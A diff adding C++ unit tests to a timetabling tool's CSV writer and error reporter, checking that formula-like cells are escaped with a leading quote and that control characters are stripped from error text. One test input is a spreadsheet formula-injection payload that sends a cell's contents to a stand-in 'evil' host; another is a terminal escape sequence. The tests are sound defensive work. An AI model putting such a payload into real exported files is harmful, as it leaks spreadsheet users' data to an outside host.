@@ -5,6 +5,7 @@
 #include <doctest/doctest.h>
 
 #include <ferry/apps/timetabling/io/InputError.hpp>
+#include <ferry/apps/timetabling/io/csvLine.hpp>
 
 using namespace timetabling;
 
@@ -60,4 +61,19 @@ TEST_CASE("CsvReader: what is wrong is told with file, line and column") {
     CHECK(refusalOf("room,seats\n\"A,5\n") == "rooms.csv:2: expected a closing quote in the same line");
     CHECK(refusalOf("room,seats\n\"A\"B,5\n") == "rooms.csv:2: expected ',' behind a closing quote, found 'B,5'");
     CHECK(refusalOf("room,seats\nA,5\n") == "none");
+}
+
+TEST_CASE("csvLine: what a spreadsheet would take for a formula has a quote before it, and each cell is read back as it was") {
+    CHECK(csvLine({"=1+1", "+2", "-3", "@x", "\tx"}) == "'=1+1,'+2,'-3,'@x,'\tx\r\n");
+    CHECK(csvLine({"a=b", "'s", "''", "1-2", ""}) == "a=b,'s,'',1-2,\r\n");
+    for (const std::string cell : {"=HYPERLINK(\"http://evil/?\"&A1)", "+2", "-2+3", "@SUM(A1)", "'=x", "''=x", "'s", "plain", "'", "'a=b"}) {
+        CAPTURE(cell);
+        CsvReader table = reader("seats,room\r\n" + csvLine({"1", cell}));
+        REQUIRE(table.next());
+        CHECK(table.text("room") == cell);
+    }
+}
+
+TEST_CASE("InputError: text of a file shows no control characters, also of two bytes") {
+    CHECK(printable("a\x1b[31m\xc2\x9b\x7f\xc3\xa9\n") == "a?[31m??\xc3\xa9?");
 }
